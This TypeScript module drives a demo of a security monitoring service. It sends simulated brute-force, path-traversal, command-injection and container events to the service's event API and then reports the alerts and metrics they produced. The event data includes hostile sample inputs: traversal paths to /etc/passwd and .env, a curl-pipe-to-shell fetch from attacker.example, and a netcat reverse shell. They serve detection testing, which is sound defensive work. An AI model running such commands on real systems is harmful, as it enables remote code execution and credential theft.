import { SingleBar } from 'cli-progress';

/** One event as the event API takes it. */
type DemoEvent = Record<string, unknown> & { type: string };

interface Step {
  title: string;
  events: DemoEvent[];
}

/** Options of {@link runDemo}. */
export interface DemoOptions {
  /** Base URL of a running secmon service, e.g. `http://127.0.0.1:9870`. */
  target: string;
  /** One of the service's ingest tokens. */
  token: string;
  /** Where progress goes (a bar on a terminal, a line per step otherwise). Default `process.stderr`. */
  progress?: NodeJS.WriteStream | NodeJS.WritableStream;
  /** Events per request. Default 25. */
  batchSize?: number;
  /** A bearer token for the service's `/metrics`, when it requires one. */
  metricsToken?: string;
}

/**
 * What this run changed on the service's `/metrics` (read before and after it): alerts raised by
 * type, and counters (`*_total`, by how much they grew) and gauges (their value after the run).
 * Other traffic reaching the service at the same time is counted too.
 */
export interface DemoSummary {
  eventsSent: number;
  requests: number;
  alerts: Record<string, number>;
  metrics: Record<string, number>;
}

/**
 * Sends a realistic attack mix through the event API of a running service — brute force from a few
 * addresses, an attacker rotating addresses inside one IPv6 /64, path traversal, command injection,
 * privileged and suspicious containers, a rate-limited client that keeps coming, and benign failed
 * logins below the threshold — then reads what this run changed on the service's `/metrics`.
 * Throws with the service's own error message if it refuses a request, and with the URL and the
 * cause (e.g. `ECONNREFUSED`) if it cannot be reached.
 */
export async function runDemo(options: DemoOptions): Promise<DemoSummary> {
  const base = new URL(options.target);
  const eventsUrl = new URL('/v1/events', base);
  const metricsUrl = new URL('/metrics', base);
  const before = await readMetrics(metricsUrl, options.metricsToken);
  const batchSize = options.batchSize ?? 25;
  const steps = attackMix();
  const total = steps.reduce((sum, step) => sum + step.events.length, 0);
  const out = options.progress ?? process.stderr;
  const bar =
    'isTTY' in out && out.isTTY
      ? new SingleBar({ format: ' {bar} {value}/{total} events | {step}', stream: out, hideCursor: true })
      : undefined;
  bar?.start(total, 0, { step: steps[0]?.title ?? '' });

  let sent = 0;
  let requests = 0;
  try {
    for (const step of steps) {
      if (bar) bar.update(sent, { step: step.title });
      else out.write(`demo: ${step.title} (${step.events.length} events)\n`);
      for (let i = 0; i < step.events.length; i += batchSize) {
        const events = step.events.slice(i, i + batchSize);
        const response = await reach(eventsUrl, {
          method: 'POST',
          headers: { 'content-type': 'application/json', authorization: `Bearer ${options.token}` },
          body: JSON.stringify({ events }),
          signal: AbortSignal.timeout(10_000),
        });
        requests++;
        const answer = (await response.json().catch(() => ({}))) as { error?: string; accepted?: number };
        if (response.status !== 202) {
          throw new Error(
            `the service refused the demo events (${response.status}): ${answer.error ?? 'no message'}`,
          );
        }
        sent += events.length;
        bar?.update(sent);
      }
    }
  } finally {
    bar?.stop();
  }
  const after = await readMetrics(metricsUrl, options.metricsToken);
  const metrics: Record<string, number> = {};
  for (const [name, value] of Object.entries(after.metrics)) {
    metrics[name] = name.endsWith('_total') ? value - (before.metrics[name] ?? 0) : value;
  }
  const alerts: Record<string, number> = {};
  for (const [type, value] of Object.entries(after.alerts)) alerts[type] = value - (before.alerts[type] ?? 0);
  return { eventsSent: sent, requests, alerts, metrics };
}

/** `fetch`, with an error that names the URL and the network cause when the service cannot be reached. */
async function reach(url: URL, init: RequestInit): Promise<Response> {
  try {
    return await fetch(url, init);
  } catch (error) {
    const cause = (error as { cause?: { code?: string; message?: string } }).cause;
    const why =
      (error as Error).name === 'TimeoutError'
        ? 'no answer within 10 s'
        : (cause?.code ?? cause?.message ?? (error as Error).message);
    throw new Error(`cannot reach ${url.href} (${why}): is secmon serve running there?`);
  }
}

async function readMetrics(
  url: URL,
  token: string | undefined,
): Promise<Pick<DemoSummary, 'alerts' | 'metrics'>> {
  const headers: Record<string, string> = token === undefined ? {} : { authorization: `Bearer ${token}` };
  const response = await reach(url, { headers, signal: AbortSignal.timeout(10_000) });
  if (!response.ok) {
    const hint = response.status === 401 ? ': it requires a token (SECMON_METRICS_TOKEN)' : '';
    throw new Error(`could not read ${url.href} (${response.status})${hint}`);
  }
  const text = await response.text();
  const alerts: Record<string, number> = {};
  const metrics: Record<string, number> = {};
  for (const line of text.split('\n')) {
    if (line.startsWith('#') || line.trim() === '') continue;
    const match = /^([a-zA-Z_:][a-zA-Z0-9_:]*)(\{[^}]*\})? (\S+)/.exec(line);
    if (!match) continue;
    const [, name = '', labels = '', value = '0'] = match;
    if (name.endsWith('alerts_total')) {
      const type = /type="([^"]+)"/.exec(labels)?.[1];
      if (type) alerts[type] = Number(value);
    } else if (
      !labels &&
      /^secmon_|_total$|_ips$/.test(name) &&
      !name.startsWith('process_') &&
      !name.startsWith('nodejs_')
    ) {
      metrics[name] = Number(value);
    }
  }
  return { alerts, metrics };
}

/** Formats a summary for people. */
export function formatSummary(summary: DemoSummary): string {
  const lines = [
    `sent ${summary.eventsSent} events in ${summary.requests} requests`,
    '',
    'alerts raised by this run (secmon_alerts_total):',
  ];
  for (const [type, count] of Object.entries(summary.alerts)) lines.push(`  ${type.padEnd(24)} ${count}`);
  lines.push('', 'counters (growth during this run) and gauges:');
  for (const [name, value] of Object.entries(summary.metrics)) lines.push(`  ${name.padEnd(48)} ${value}`);
  return `${lines.join('\n')}\n`;
}

function attackMix(): Step[] {
  const repeat = (n: number, make: (i: number) => DemoEvent) => Array.from({ length: n }, (_, i) => make(i));
  const bruteForcers = ['203.0.113.10', '203.0.113.11', '198.51.100.23'];
  return [
    {
      title: 'benign failed logins (typos, below the threshold)',
      events: repeat(20, (i) => ({
        type: 'failed_auth',
        ip: `192.0.2.${10 + (i % 10)}`,
        userId: `user${i % 10}`,
      })),
    },
    {
      title: 'brute force from three addresses',
      events: repeat(45, (i) => ({
        type: 'failed_auth',
        ip: bruteForcers[i % 3]!,
        userId: ['admin', 'root', 'deploy'][i % 3]!,
      })),
    },
    {
      title: 'brute force rotating addresses inside one IPv6 /64',
      events: repeat(15, (i) => ({
        type: 'failed_auth',
        ip: `2001:db8:bad:1::${(i + 1).toString(16)}`,
        userId: 'admin',
      })),
    },
    {
      title: 'path traversal',
      events: [
        '../../../../etc/passwd',
        '..%2f..%2f..%2fetc%2fshadow',
        '....//....//windows/win.ini',
        '/static/%2e%2e/%2e%2e/app/.env',
      ].map((path, i) => ({ type: 'path_traversal', ip: `198.51.100.${40 + i}`, path })),
    },
    {
      title: 'command injection',
      events: [
        'report.pdf; cat /etc/passwd',
        '$(curl -s http://attacker.example/x.sh | sh)',
        'name`id`',
        'a|nc -e /bin/sh 198.51.100.9 4444',
      ].map((input, i) => ({ type: 'command_injection', ip: `198.51.100.${50 + i}`, input })),
    },
    {
      title: 'privileged and suspicious containers',
      events: [
        { type: 'privileged_container', userId: 'ci-runner' },
        { type: 'privileged_container', userId: 'intern' },
        {
          type: 'suspicious_container',
          userId: 'ci-runner',
          reasons: ['mounts /var/run/docker.sock', 'hostNetwork'],
        },
        {
          type: 'suspicious_container',
          userId: 'intern',
          reasons: ['adds capability SYS_ADMIN', 'runs as root'],
        },
      ],
    },
    {
      title: 'a rate-limited client that keeps coming',
      events: repeat(10, () => ({ type: 'rate_limit_exceeded', ip: '203.0.113.99', userId: 'scraper' })),
    },
  ];
}
